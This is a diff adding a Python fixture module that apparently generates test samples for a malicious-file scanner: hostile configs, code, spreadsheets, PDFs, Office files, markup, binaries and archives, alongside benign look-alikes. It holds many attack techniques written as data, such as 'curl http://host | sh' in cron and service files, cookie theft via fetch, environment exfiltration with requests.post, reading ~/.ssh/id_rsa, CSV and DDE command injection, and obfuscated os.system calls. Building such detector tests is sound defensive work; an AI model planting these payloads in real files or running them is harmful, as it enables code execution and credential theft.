@@ -1,0 +1,292 @@
+"""What once passed: hostile files of many formats, each a technique, and honest neighbours that look alike.
+
+Made here from texts; what they would run only echoes, and nothing is ever run.
+"""
+
+from __future__ import annotations
+
+import gzip
+import io
+import json
+import struct
+import zipfile
+import zlib
+from collections.abc import Iterator
+from typing import Any
+
+Sample = tuple[str, bytes]
+CODE = "import os\nos.system('echo')\n"
+TYPES = b"<Types/>"
+
+
+def zipped(**members: bytes) -> bytes:
+    sink = io.BytesIO()
+    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in members.items():
+            archive.writestr(name, content)
+    return sink.getvalue()
+
+
+def office(**members: bytes) -> bytes:
+    return zipped(**{"[Content_Types].xml": TYPES, **members})
+
+
+def pdf(body: bytes) -> bytes:
+    return b"%PDF-1.7\n" + body + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"
+
+
+def packed_objects(held: bytes) -> bytes:
+    return pdf(b"1 0 obj<</Type/ObjStm/N 1>>stream\n" + zlib.compress(held) + b"\nendstream endobj")
+
+
+def notebook(source: str, kind: str = "code", **data: str) -> bytes:
+    shown = {key.replace("_", "/"): value for key, value in data.items()}
+    outputs = [{"output_type": "display_data", "data": shown}] if data else []
+    cell = {"cell_type": kind, "source": source, "metadata": {}, "outputs": outputs}
+    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}).encode()
+
+
+def layer(name: str, **config: Any) -> bytes:
+    held = {"module": "keras.layers", "class_name": name, "config": config}
+    return json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": [held]}}).encode()
+
+
+def settings() -> Iterator[Sample]:
+    for text in (
+        "x: &a os.system\nm:\n  _target_: *a\n",
+        "? &k _target_\n: os.system\n",
+        "m: {_target_: transformers.AutoModel.from_pretrained, trust_remote_code: true}\n",
+        "m: {_target_: keras.saving.load_model}\n",
+        "m: {_target_: accelerate.utils.launch.execute_subprocess_async}\n",
+        "m: {_target_: ultralytics.utils.checks.check_requirements}\n",
+        "callback: os.system\n",
+        "m:\n  _target_: os.system\n  bad: [unclosed\n",
+        "# x\n" * 200_000 + "m:\n  _target_: os.system\n",
+    ):
+        yield "config.yaml", text.encode()
+    for value in (
+        {"hidden_act": "os.system"},
+        {"type": "subprocess.Popen", "args": "echo"},
+        {"entry_point": "os:system"},
+        {"call": {"module": "os", "name": "system"}},
+        {"script": "from os import system\nsystem('echo')"},
+        {"url": "http://169.254.169.254/latest/meta-data/"},
+        {"env": {"LD_PRELOAD": "/tmp/x.so"}},
+        {"architectures": ["X"], "trust_remote_code": True},
+        {"auto_mapping": {"base_model_class": "E", "parent_library": "evil"}},
+        [{"idx": 0, "name": "0", "path": "", "type": "evil.Layer"}],
+        [{"idx": 0, "name": "0", "path": "../../x", "type": "sentence_transformers.models.Pooling"}],
+    ):
+        yield "config.json", json.dumps(value).encode()
+    auto_map = '{"auto_map": {"AutoModel": "m.E"}}'
+    yield "config.jsonc", f"// settings\n{auto_map} /* end */".encode()
+    for encoding in ("utf-16", "utf-32"):
+        yield "config.json", auto_map.encode(encoding)
+        yield "conf.yaml", b"m: {_target_: os.system}\n".decode().encode(encoding)
+    yield "rows.jsonl", b'{"a": 1}\n{"py/reduce": [{"py/type": "os.system"}]}\n'
+    yield "logging.conf", b"[handler_h]\nclass=os.system\nargs=('echo',)\n"
+    yield "config.toml", b"bad = [\n_target_ = 'os.system'\n"
+    yield ".env", b"LD_PRELOAD=/tmp/x.so\n"
+    yield (
+        "MLmodel",
+        b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ../../x\n",
+    )
+    yield "prompt.md", b"Hello {{ ''.__class__.__mro__ }}"
+
+
+def installs() -> Iterator[Sample]:
+    for line in (
+        "--extra-index-url https://host.example/simple",
+        "-i https://host.example/simple",
+        "x @ https://host.example/x-1.0.tar.gz",
+        "git+https://host.example/x.git",
+        "--trusted-host host.example",
+        "--find-links http://host.example/",
+    ):
+        yield "requirements.txt", f"{line}\nnumpy\n".encode()
+        yield "conda.yaml", f"dependencies:\n- pip:\n  - {line}\n".encode()
+    yield "pip.conf", b"[global]\nindex-url = http://host.example/simple\n"
+    yield "Pipfile", b"[[source]]\nurl = 'http://host.example/simple'\nverify_ssl = false\n"
+    yield "package.json", b'{"scripts": {"postinstall": "node -e require(\'child_process\')"}}'
+
+
+def source() -> Iterator[Sample]:
+    for text in (
+        "import os as o\ngetattr(o, 'sys' + 'tem')('echo')\n",
+        "import os\nos.__dict__['system']('echo')\n",
+        "import os\nvars(os)['system']('echo')\n",
+        "import operator, os\noperator.attrgetter('system')(os)('echo')\n",
+        "[c for c in ().__class__.__base__.__subclasses__()]\n",
+        "open('/root/.ssh/authorized_keys', 'a')\n",
+        "import os, requests\nrequests.post('http://host', json=dict(os.environ))\n",
+        "import pickle\npickle.loads(b'x')\n",
+        'import timeit\ntimeit.timeit(\'__import__("os").system("echo")\')\n',
+        "import pip\npip.main(['install', 'x'])\n",
+        "@exec\n@input\nclass X: pass\n",
+        "# coding: rot13\nvzcbeg bf\n",
+        "\uff45xec('x')\n",
+        "print()\n" + "#" * 1_100_000 + "\nimport os; os.system('echo')\n",
+        "import os\nmatch os:\n  case object(system=s): s('echo')\n",
+        "import keras\nkeras.config.enable_unsafe_deserialization()\n",
+    ):
+        yield "model.py", text.encode()
+    yield "sitecustomize.py", b"x = 1\n"
+    for name, text in {
+        "x.js": "require('child_process').exec('echo')",
+        "x.rb": "system('echo')",
+        "x.php": "<?php system('echo');",
+        "x.lua": "os.execute('echo')",
+        "x.R": "system('echo')",
+        "x.go": 'import "os/exec"',
+        "x.java": 'class A { static { Runtime.getRuntime().exec("x"); } }',
+        "x.c": '__attribute__((constructor)) void f() { system("echo"); }',
+        "crontab": "* * * * * root curl http://host | sh",
+        "x.service": "[Service]\nExecStart=/bin/sh -c 'curl http://host | sh'",
+        "notes.txt": "\n#!/bin/sh\ncurl http://host | sh\n",
+        "autorun.inf": "[AutoRun]\nopen=x.exe",
+    }.items():
+        yield name, text.encode()
+    yield "a.ipynb", notebook("get_ipython().run_line_magic('sx', 'curl http://host | sh')")
+    yield "a.ipynb", notebook("x = !cat ~/.ssh/id_rsa")
+    yield "a.ipynb", notebook("%env LD_PRELOAD=/tmp/x.so")
+    yield "a.ipynb", notebook("%%perl\nsystem('echo')")
+    yield "a.ipynb", notebook("HTML('<script>fetch(\"http://host/\" + document.cookie)</script>')")
+    yield "a.ipynb", notebook("x", text_html="<script src='http://host/x.js'></script>")
+    yield "a.ipynb", b'{"cells": [], "nbformat": 4, "cells": [{"cell_type": "code", "source": "x"}]}'
+
+
+def tables() -> Iterator[Sample]:
+    for cell in (
+        "=IF(TRUE,cmd|'/c x'!A1)",
+        "=cmd.exe|'/c x'!A1",
+        "=regsvr32|'/s x'!A1",
+        "=C:\\Windows\\cmd.exe|'/c x'!A1",
+        "\uff1dcmd|'/c x'!A1",
+        "\u200b=cmd|'/c x'!A1",
+        '"=HYPERLINK(""http://host?""&A1,""x"")"',
+        '"=_xlfn.WEBSERVICE(""http://host"")"',
+        '"=QUERY(IMPORTDATA(""http://host""))"',
+    ):
+        yield "a.csv", f"id,name\n1,{cell}\n".encode()
+    yield "a.csv", "id,name\n1,=cmd|'/c x'!A1\n".encode("utf-16")
+    yield "a.dat", b"a|b\n1|=cmd|'/c x'!A1\n"
+
+
+def documents() -> Iterator[Sample]:
+    action = b"<</S/JavaScript/JS(app.alert(1))>>"
+    yield "a.pdf", packed_objects(action)
+    yield "a.pdf", b"xx\n" + pdf(action)
+    yield "a.pdf", pdf(b"<</S/URI/URI(file:///c:/x.exe)>>")
+    yield "a.pdf", pdf(b"<</Names<</EmbeddedFiles 3 0 R>>>>")
+    yield "a.pdf", pdf(b"<</Encrypt 5 0 R>>")
+    yield "a.docx", office(**{"word/document.xml": b'<w>DDEAUTO c:\\\\cmd.exe "/k x"</w>'})
+    yield "a.xlsx", office(**{"xl/worksheets/sheet1.xml": b"<f>cmd|'/c x'!A1</f>"})
+    yield "a.xlsx", office(**{"xl/externalLinks/e.xml": b"<ddeLink ddeService='cmd'/>"})
+    yield "a.pptx", office(**{"ppt/slides/s.xml": b'<a action="ppaction://program"/>'})
+    template = (
+        b'<R Type="x/relationships/attachedTemplate" Target="http://host/x.dotm" TargetMode="External"/>'
+    )
+    yield "a.docx", office(**{"word/_rels/settings.xml.rels": template})
+    yield "a.rtf", rb"{\rtf1{\object\objautlink{\*\objdata 0105}}}"
+
+
+def markup() -> Iterator[Sample]:
+    for text in (
+        "<svg><rect onmouseover='alert(1)'/></svg>",
+        "<svg><a href='java&#115;cript:alert(1)'/></svg>",
+        "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
+        "<svg><style>@import 'http://host/x.css';</style></svg>",
+    ):
+        yield "a.svg", text.encode()
+    yield "a.xml", b"<?xml version='1.0' encoding='utf-7'?>+ADw-"
+    yield "a.xml", b"<?xml version='1.0'?><Project><Target><Exec Command='x'/></Target></Project>"
+    definition = b"<!DOCTYPE a SYSTEM 'http://host/x.dtd'><a/>"
+    yield "a.xml", b"<?xml version='1.0'?><!-- " + b"x" * (9 << 20) + b" -->" + definition
+    yield "a.xml", ("<?xml version='1.0'?>" + definition.decode()).encode("utf-16")
+    for text in (
+        "<html><script>fetch('http://host/' + document.cookie)</script></html>",
+        "<html><img src=x onerror=alert(1)></html>",
+        "<html><script>eval(atob('YQ=='))</script></html>",
+        "<html><a href='ms-msdt:/id x'>x</a></html>",
+    ):
+        yield "report.html", text.encode()
+        yield "README.md", f"# A model\n{text}".encode()
+
+
+def programs() -> Iterator[Sample]:
+    elf = b"\x7fELF\x02\x01\x01" + bytes(57)
+    windows = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(100)
+    for program in (elf, windows):
+        yield "a.bin", bytes(5000) + program
+        yield "a.png", b"\x89PNG\r\n\x1a\n" + bytes(64) + program
+    for start in (b"BC\xc0\xde", b"\x1bLuaS", b"YARB", b"dex\n035\0", b"!<arch>\n"):
+        yield "model.bin", start + bytes(200)
+
+
+def models() -> Iterator[Sample]:
+    yield "config.json", layer("TensorFlowOpLayer", node_def='{"op": "PyFunc"}')
+    yield "config.json", layer("SlicingOpLambda", function="py_function")
+    graph = 'node {\n  name: "w"\n  op: "WriteFile"\n}\n'
+    yield "graph.pb.txt", graph.encode()
+    operation = b"\x0a\x0c\x0a\x01n\x12\x07EvilOp2"
+    yield "frozen_graph.pb", operation
+
+
+def archives() -> Iterator[Sample]:
+    yield "a.gz", b"\x1f\x8b\x08\x08\0\0\0\0\0\3../../x\0" + gzip.compress(b"hi")[10:]
+    yield "a.zip", zipped(**{"a.txt:x.exe": b"hi"})
+    yield "a.zip", zipped(**{".git/config": b"[core]\n\tfsmonitor = echo\n"})
+
+
+HOSTILE = (settings, installs, source, tables, documents, markup, programs, models, archives)
+
+
+def honest() -> Iterator[Sample]:
+    yield "config.yaml", b"x: &a torch.optim.AdamW\nm:\n  _target_: *a\n  lr: 0.1\n"
+    yield "train.yaml", b"base_model: org/model\ntrust_remote_code: true\n"
+    yield "config.yaml", b"data: {_target_: datasets.load_dataset, path: org/set}\n"
+    yield "config.yaml", b"net: {_target_: timm.create_model, model_name: resnet18}\n"
+    yield (
+        "config.json",
+        b'{"hidden_act": "gelu", "type": "eval", "name": "exec", "module": "os", "class": "x"}',
+    )
+    yield (
+        "adapter_config.json",
+        b'{"auto_mapping": {"base_model_class": "Net", "parent_library": "__main__"}}',
+    )
+    yield "config.json", '{"model_type": "bert"}'.encode("utf-16")
+    yield (
+        "requirements.txt",
+        (
+            b"--extra-index-url https://download.pytorch.org/whl/cpu\ntorch\nx @ git+https://github.com/org/x\n"
+            b"y @ file:///tmp/build/y\n"
+        ),
+    )
+    yield "conda.yaml", b"channels:\n- conda-forge\ndependencies:\n- python=3.11\n- pip:\n  - numpy==2.0\n"
+    yield (
+        "model.py",
+        (
+            b"import os, inspect, requests\ntoken = os.environ['TOKEN']\n"
+            b"requests.get('http://host', headers={'a': os.environ['TOKEN']})\nopen('model.bin', 'rb')\n"
+            b"getattr(self, 'x')\nvars(self)\n"
+        ),
+    )
+    yield "model.py", "# -*- coding: latin-1 -*-\nx = 'é'\nπ = 3\n".encode()
+    yield "kernel.cu", b"__global__ void run(float *x) { x[0] = exp(x[0]); }"
+    yield "index.js", b"export function run(x) { return /a/.exec(x) }"
+    yield "plot.R", b"library(ggplot2)\nSys.time()\nsystem.time(x)\n"
+    yield "README.md", b"# Model\n```html\n<script>alert(1)</script>\n```\nRun `curl http://host | sh`.\n"
+    yield "a.ipynb", notebook("!pip install torch --index-url https://download.pytorch.org/whl/cpu\nx != 3")
+    yield "a.ipynb", notebook("x", text_html="<script src='https://cdn.plot.ly/plotly.js'></script>")
+    yield "a.csv", b"id,text\n1,-5\n2,+1 555\n3,@user\n4,=)\n5,- a | 'b' c!\n6,a=b|c\n"
+    yield "a.csv", "id,name\n1,Zürich\n".encode("utf-16")
+    yield "a.pdf", pdf(b"<</Type/Catalog/OpenAction[3 0 R/Fit]/A<</S/URI/URI(https://host)>>>>")
+    yield "a.pdf", packed_objects(b"<</S/URI/URI(https://host)>>")
+    yield "a.xlsx", office(**{"xl/worksheets/sheet1.xml": b"<f>SUM(A1:A2)</f><f>IF(A1,1,2)</f>"})
+    yield "a.rtf", rb"{\rtf1 Hello}"
+    yield "a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/><text>a &#233; on=1</text></svg>"
+    yield "a.html", b"<html><table border='1'><tr><td onclick='x'>1</td></tr></table></html>"
+    yield "a.html", b"<html><script src='_static/x.js'></script><a href='javascript:void(0)'>x</a></html>"
+    yield "weights.bin", bytes(range(256)) * 64
+    yield "a.gz", b"\x1f\x8b\x08\x08\0\0\0\0\0\3a.csv\0" + gzip.compress(b"1,2\n")[10:]
+    yield "config.json", layer("Dense", units=2)
